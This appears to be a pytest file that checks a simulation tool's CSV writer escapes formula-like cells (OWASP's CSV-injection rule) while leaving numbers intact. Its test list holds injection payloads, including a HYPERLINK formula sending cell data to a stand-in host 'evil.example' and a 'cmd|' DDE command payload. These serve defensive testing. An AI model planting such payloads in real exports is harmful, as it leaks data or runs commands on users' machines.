"""CSV injection (issue 23, item 4): a label that starts like a formula is written as text
(OWASP's rule), and a number, negative ones too, stays a number."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sim.cli import main
from sim.csvcells import SafeWriter, csv_cell

SMALL = Path(__file__).resolve().parent / "data" / "small.toml"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.25", "+1e5", "-3", "1.5", "-.5", "-inf", "nan", "price"])
def test_numbers_and_plain_text_are_kept(text: str) -> None:
    assert csv_cell(text) == text


@given(st.text())
def test_no_cell_starts_a_formula_unless_a_number(text: str) -> None:
    buf = io.StringIO()
    SafeWriter(buf).writerow([text, 1.5, -2])
    (cell, x, y), *_ = csv.reader(io.StringIO(buf.getvalue(), newline=""))
    assert (x, y) == ("1.5", "-2")
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell[0] in "+-"  # a number: float() reads it
        float(cell)
    assert cell.removeprefix("'") == text or cell == text


def test_a_target_label_reaches_the_csv_as_text(tmp_path: Path) -> None:
    """A label "=HYPERLINK(...)" was written as a live formula."""
    label = FORMULAS[0]
    text = SMALL.read_text(encoding="utf-8")
    assert 'label = "article: 25亿 USD"' in text
    path = tmp_path / "s.toml"
    text = text.replace('label = "article: 25亿 USD"', "label = '''" + label + "'''")
    path.write_text(text, encoding="utf-8")
    argv = ["run", str(path), "--paths", "500", "--format", "json,csv", "--quiet"]
    assert main([*argv, "--out", str(tmp_path / "o")]) == 0
    written = (tmp_path / "o" / "small" / "summary.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(written)))
    labels = [r["label"] for r in rows if r["kind"] == "target"]
    assert "'" + label in labels
    assert not any(r[k].startswith("=") for r in rows for k in r)
    # numbers stay numbers: no quote in front of a probability or an amount
    assert all(not r["value_usd"].startswith("'") for r in rows)
